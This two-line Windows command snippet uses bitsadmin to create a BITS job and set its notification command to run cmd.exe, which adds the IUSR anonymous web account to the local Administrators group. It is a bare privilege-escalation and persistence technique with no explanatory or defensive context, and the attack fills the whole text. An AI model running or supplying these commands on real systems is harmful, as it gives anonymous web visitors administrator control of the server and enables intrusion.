bitsadmin /create fetch
bitsadmin /setnotifycmdline fetch C:\Windows\System32\cmd.exe "/c net localgroup Administrators IUSR /add"
